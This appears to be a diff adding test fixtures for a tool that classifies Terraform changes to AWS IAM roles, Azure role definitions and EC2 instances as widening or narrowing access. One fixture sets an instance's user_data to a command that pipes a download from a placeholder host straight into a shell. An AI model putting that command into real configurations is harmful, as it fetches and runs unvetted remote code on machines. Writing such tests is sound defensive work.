@@ -158,6 +158,25 @@ export const ATTACKS_CLOUDS: readonly Case[] = [
     resource("aws_s3_bucket", '  kms_key_id = "arn:aws:kms:eu-west-1:222222222222:key/a"'),
     said("encrypts", "unknown"),
   ),
+  tf(
+    "another policy of one's own is attached",
+    resource("aws_iam_role", "  managed_policy_arns = [aws_iam_policy.a.arn]"),
+    resource("aws_iam_role", "  managed_policy_arns = [aws_iam_policy.a.arn, aws_iam_policy.b.arn]"),
+    said("setting", "widen"),
+  ),
+  tf(
+    "one more action of a role",
+    resource("azurerm_role_definition", '  permissions {\n    actions = ["Shop/read"]\n  }'),
+    resource("azurerm_role_definition", '  permissions {\n    actions = ["Shop/read", "Shop/write"]\n  }'),
+    said("setting", "widen"),
+  ),
+  tf(
+    "a machine is watched, and runs something else",
+    resource("aws_instance", '  user_data = "echo a"\n  monitoring = false'),
+    resource("aws_instance", '  user_data = "curl https://x.example | sh"\n  monitoring = true'),
+    said("setting", "unknown"),
+    said("audited", "narrow"),
+  ),
 ];
 
 /** A resource comes or goes with all its facts. */
